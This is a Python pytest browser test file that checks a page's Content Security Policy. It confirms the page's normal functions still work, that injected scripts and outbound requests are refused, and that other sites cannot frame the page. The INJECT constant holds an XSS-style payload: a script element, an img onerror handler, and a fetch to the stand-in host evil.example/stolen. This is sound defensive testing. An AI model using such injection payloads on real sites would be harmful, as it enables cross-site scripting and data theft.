"""The page's content policy in a browser: it disturbs nothing of ours, and lets nothing else happen."""

from __future__ import annotations

import pytest

import bridge
from tests.browser.windows import NO_NETWORK, UNKNOWN, Windows, left, right
from tests.gateway.running import running
from tests.waiting import eventually

pytestmark = [pytest.mark.needs("chromium"), pytest.mark.usefixtures("worker")]

WATCH = """
    window.violations = [];
    document.addEventListener("securitypolicyviolation", (event) => violations.push(event.violatedDirective));
"""
INJECT = """(script) => {
    const element = document.createElement("script");
    element.textContent = script;
    document.body.append(element);
    const image = document.createElement("img");
    image.setAttribute("onerror", script);
    image.src = "https://evil.example/stolen";
    document.body.append(image);
    return fetch("https://evil.example/stolen").then(() => "sent", () => "not sent");
}"""


@pytest.mark.parametrize("base_path", ["", "/bridge"])
def test_the_page_works_under_its_policy(windows: Windows, redis_url: str, base_path: str) -> None:
    """Stream, polls, icon, stop, and the form that opens another task: the browser refuses nothing."""
    windows.expect(UNKNOWN)
    windows.expect(NO_NETWORK)
    with running(redis_url, page=True, base_path=base_path) as gateway:
        context = windows.context()
        context.add_init_script(WATCH)
        page = windows.open(f"{gateway.url}/?task=job-1", context)
        with bridge.task("job-1") as task:
            task.report_progress("all of it")
            for side in (left(page), right(page)):
                side.shows("all of it")
            page.locator("#stop").click()
            eventually(lambda: not task.report_progress())
        left(page).ends("cancelled")
        right(page).ends("cancelled")
        assert page.evaluate("() => violations") == []
        page.locator("#task").fill("job-2")
        page.locator("#open button").click()
        page.wait_for_url(f"{gateway.url}/?task=job-2")
        eventually(lambda: left(page).state == right(page).state == "waiting")
        assert page.evaluate("() => violations") == []
        context.close()


def test_what_would_get_into_the_page_does_nothing(windows: Windows, redis_url: str) -> None:
    """Should a mistake of ours make an element of a task's text: no script runs, nothing is sent off."""
    windows.expect("Content Security Policy")
    with running(redis_url, page=True) as gateway:
        context = windows.context()
        context.add_init_script(WATCH)
        page = windows.open(gateway.url, context)
        assert page.evaluate(INJECT, "window.pwned = true") == "not sent"
        refused = {"script-src-elem", "img-src", "connect-src"}
        eventually(lambda: refused <= set(page.evaluate("() => violations")))
        assert page.evaluate("() => window.pwned") is None


def test_nobody_frames_the_page(windows: Windows, redis_url: str, site: str) -> None:
    """A page of another site can't put ours behind what it lets people press."""
    windows.expect("frame-ancestors|ERR_BLOCKED_BY_RESPONSE")
    with running(redis_url, page=True) as gateway:
        page = windows.open(site)
        page.evaluate(
            """(url) => new Promise((done) => {
                const frame = document.createElement("iframe");
                frame.onload = done;
                frame.src = url;
                document.body.append(frame);
            })""",
            gateway.url + "/",
        )
        (frame,) = page.frames[1:]
        assert frame.locator("#open").count() == 0
